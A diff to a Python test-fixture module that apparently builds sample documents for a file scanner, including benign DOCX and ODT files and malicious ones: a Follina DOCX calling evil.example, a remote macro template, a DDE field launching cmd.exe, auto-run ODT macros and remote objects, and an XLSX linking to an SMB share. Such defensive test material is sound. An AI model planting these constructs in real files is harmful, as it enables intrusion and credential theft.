@@ -71,6 +71,11 @@ def launch_pdf_bytes() -> bytes:
     return _open_action_pdf({"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})
 
 
+def action_pdf_bytes(action: str) -> bytes:
+    """A PDF whose open action is of type `action` (« /SubmitForm », « /GoToR », « /Sound »…)."""
+    return _open_action_pdf({"/S": NameObject(action), "/F": TextStringObject("http://evil.example/x")})
+
+
 def embedded_file_pdf_bytes() -> bytes:
     """A PDF carrying a file (an executable) as an attachment."""
     writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
@@ -117,14 +122,49 @@ def png_bomb_bytes(side: int = 13_000) -> bytes:
 
 # --- Office documents ------------------------------------------------------------------------------
 
-_DOCX_TYPES = (
-    '<?xml version="1.0" encoding="UTF-8"?>'
-    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-    '<Default Extension="xml" ContentType="application/xml"/>'
-    '<Override PartName="/word/document.xml" ContentType="application/'
-    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
-)
+_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+_REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+
+
+def _types(overrides: dict[str, str] | None = None, defaults: dict[str, str] | None = None) -> str:
+    """A [Content_Types].xml: rels and xml by default, the main document part, and more."""
+    defaults = {
+        "rels": "application/vnd.openxmlformats-package.relationships+xml",
+        "xml": "application/xml",
+        **(defaults or {}),
+    }
+    overrides = {"/word/document.xml": _DOCX_MAIN, **(overrides or {})}
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        + "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults.items())
+        + "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
+        + "</Types>"
+    )
+
+
+def relationships_xml(*relationships: tuple[str, str, str | None]) -> str:
+    """A .rels part from (type, target, target mode) triples; the type is short (« hyperlink »)."""
+    return (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS_NS}">'
+        + "".join(
+            f'<Relationship Id="rId{number}" Type="{_REL_TYPE}{kind}" Target="{target}"'
+            + (f' TargetMode="{mode}"' if mode else "")
+            + "/>"
+            for number, (kind, target, mode) in enumerate(relationships, start=1)
+        )
+        + "</Relationships>"
+    )
+
+
+def _document(body: str = "<w:p><w:r><w:t>Compte rendu du comité de pilotage</w:t></w:r></w:p>") -> str:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<w:document xmlns:w="{_W_NS}" xmlns:r="{_R_NS}"><w:body>{body}</w:body></w:document>'
+    )
 
 
 def _zip(entries: dict[str, bytes | str], *, stored_first: str | None = None) -> bytes:
@@ -137,13 +177,19 @@ def _zip(entries: dict[str, bytes | str], *, stored_first: str | None = None) ->
 
 
 def docx_bytes(extra: dict[str, bytes | str] | None = None) -> bytes:
+    """A DOCX with Word's structure (content types, package and document relationships, one
+    paragraph); `extra` adds or replaces parts."""
     return _zip(
         {
-            "[Content_Types].xml": _DOCX_TYPES,
-            "_rels/.rels": "<Relationships/>",
-            "word/document.xml": "<w:document><w:body><w:p/></w:body></w:document>",
-            "word/_rels/document.xml.rels": "<Relationships/>",
-            "docProps/core.xml": "<cp:coreProperties/>",
+            "[Content_Types].xml": _types(),
+            "_rels/.rels": relationships_xml(("officeDocument", "word/document.xml", None)),
+            "word/document.xml": _document(),
+            "word/_rels/document.xml.rels": relationships_xml(("styles", "styles.xml", None)),
+            "word/styles.xml": f'<w:styles xmlns:w="{_W_NS}"/>',
+            "docProps/core.xml": (
+                '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
+                'metadata/core-properties"/>'
+            ),
             **(extra or {}),
         }
     )
@@ -154,16 +200,163 @@ def docx_with_html_and_macro_bytes() -> bytes:
     return docx_bytes({"word/page.html": HTML, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512})
 
 
+def docx_hyperlink_bytes() -> bytes:
+    """An ordinary DOCX with a web link and an e-mail link (external hyperlink relationships)."""
+    link = '<w:hyperlink r:id="rId{}"><w:r><w:t>{}</w:t></w:r></w:hyperlink>'
+    return docx_bytes(
+        {
+            "word/document.xml": _document(
+                "<w:p>" + link.format(2, "site de l'ARS") + link.format(3, "écrire") + "</w:p>"
+            ),
+            "word/_rels/document.xml.rels": relationships_xml(
+                ("styles", "styles.xml", None),
+                ("hyperlink", "https://www.ars.sante.fr/contrats-locaux-de-sante", "External"),
+                ("hyperlink", "mailto:cls@example.org", "External"),
+            ),
+        }
+    )
+
+
+def follina_docx_bytes() -> bytes:
+    """CVE-2022-30190 (« Follina »): an external oleObject relationship to an mhtml: address, which
+    Word fetches when the document opens and whose page then runs ms-msdt."""
+    return docx_bytes(
+        {
+            "word/_rels/document.xml.rels": relationships_xml(
+                ("styles", "styles.xml", None),
+                (
+                    "oleObject",
+                    "mhtml:http://evil.example/payload.html!x-usc:http://evil.example/p.html",
+                    "External",
+                ),
+            )
+        }
+    )
+
+
+def remote_template_docx_bytes() -> bytes:
+    """A DOCX whose settings attach a macro-enabled template fetched from outside when it opens."""
+    return docx_bytes(
+        {
+            "word/settings.xml": f'<w:settings xmlns:w="{_W_NS}" xmlns:r="{_R_NS}">'
+            '<w:attachedTemplate r:id="rId1"/></w:settings>',
+            "word/_rels/settings.xml.rels": relationships_xml(
+                ("attachedTemplate", "http://evil.example/modele.dotm", "External")
+            ),
+        }
+    )
+
+
+def altchunk_docx_bytes() -> bytes:
+    """A DOCX carrying a web page as an altChunk (word/afchunk.xml declared text/html), which Word
+    renders into the document when it opens."""
+    return docx_bytes(
+        {
+            "[Content_Types].xml": _types({"/word/afchunk.xml": "text/html"}),
+            "word/document.xml": _document('<w:altChunk r:id="rId2"/>'),
+            "word/_rels/document.xml.rels": relationships_xml(
+                ("styles", "styles.xml", None), ("aFChunk", "afchunk.xml", None)
+            ),
+            "word/afchunk.xml": HTML,
+        }
+    )
+
+
+def dde_docx_bytes() -> bytes:
+    """A DOCX whose field runs a command through DDE when it is updated, its code split over runs."""
+    return docx_bytes(
+        {
+            "word/document.xml": _document(
+                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+                "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\"
+                'system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
+                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+            )
+        }
+    )
+
+
+_ODF = {
+    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
+    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
+    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
+    "xlink": "http://www.w3.org/1999/xlink",
+}
+_ODF_XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in _ODF.items())
+_MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
+
+
+def odt_content(body: str = "<text:p>Compte rendu du comité de pilotage</text:p>") -> str:
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODF_XMLNS} office:version="1.3">'
+        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
+    )
+
+
+def odt_manifest(*entries: tuple[str, str]) -> str:
+    """A META-INF/manifest.xml listing the document and (path, media type) entries."""
+    files = [("/", "application/vnd.oasis.opendocument.text"), ("content.xml", "text/xml"), *entries]
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{_MANIFEST_NS}" '
+        'manifest:version="1.3">'
+        + "".join(
+            f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
+            for path, kind in files
+        )
+        + "</manifest:manifest>"
+    )
+
+
 def odt_bytes(extra: dict[str, bytes | str] | None = None) -> bytes:
     return _zip(
         {
             "mimetype": "application/vnd.oasis.opendocument.text",
-            "META-INF/manifest.xml": "<manifest:manifest/>",
-            "content.xml": "<office:document-content/>",
-            "styles.xml": "<office:document-styles/>",
+            "META-INF/manifest.xml": odt_manifest(),
+            "content.xml": odt_content(
+                '<text:p>Voir <text:a xlink:type="simple" xlink:href="https://www.ars.sante.fr/">'
+                "le site de l'ARS</text:a></text:p>"
+            ),
+            "styles.xml": f'<office:document-styles {_ODF_XMLNS} office:version="1.3"/>',
             **(extra or {}),
         },
         stored_first="mimetype",
+    )
+
+
+def odt_external_object_bytes() -> bytes:
+    """An ODT whose frame shows an object loaded from another address when the document opens."""
+    return odt_bytes(
+        {
+            "content.xml": odt_content(
+                '<text:p><draw:frame><draw:object xlink:type="simple" xlink:show="embed" '
+                'xlink:href="http://evil.example/objet"/></draw:frame></text:p>'
+            )
+        }
+    )
+
+
+def odt_macro_event_bytes() -> bytes:
+    """An ODT binding a Basic macro to an event of the document (no Basic/ folder in it)."""
+    return odt_bytes(
+        {
+            "content.xml": odt_content(
+                "<text:p><office:event-listeners><script:event-listener "
+                'script:language="ooo:script" script:event-name="dom:load" '
+                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
+                "</office:event-listeners></text:p>"
+            )
+        }
+    )
+
+
+def odt_html_manifest_bytes() -> bytes:
+    """An ODT whose manifest declares a web page among its parts."""
+    return odt_bytes(
+        {
+            "META-INF/manifest.xml": odt_manifest(("Pictures/page.png", "text/html")),
+            "Pictures/page.png": HTML,
+        }
     )
 
 
@@ -211,3 +404,42 @@ def xlsx_bytes(rows: int = 3) -> bytes:
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
+
+
+def _rezipped(content: bytes, changes: dict[str, bytes | str]) -> bytes:
+    """The archive `content` with parts added or replaced."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    return _zip({**entries, **changes})
+
+
+def xlsx_external_link_bytes() -> bytes:
+    """A workbook linked to another workbook on a remote share (refreshed when it opens)."""
+    content = xlsx_bytes()
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        types = archive.read("[Content_Types].xml").decode()
+        workbook_rels = archive.read("xl/_rels/workbook.xml.rels").decode()
+    link_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+    return _rezipped(
+        content,
+        {
+            "[Content_Types].xml": types.replace(
+                "</Types>",
+                f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{link_type}"/>'
+                "</Types>",
+            ),
+            "xl/_rels/workbook.xml.rels": workbook_rels.replace(
+                "</Relationships>",
+                f'<Relationship Id="rId9" Type="{_REL_TYPE}externalLink" '
+                'Target="externalLinks/externalLink1.xml"/></Relationships>',
+            ),
+            "xl/externalLinks/externalLink1.xml": (
+                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+                '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships"/></externalLink>'
+            ),
+            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships_xml(
+                ("externalLinkPath", "file:///\\\\evil.example\\partage\\donnees.xlsx", "External")
+            ),
+        },
+    )
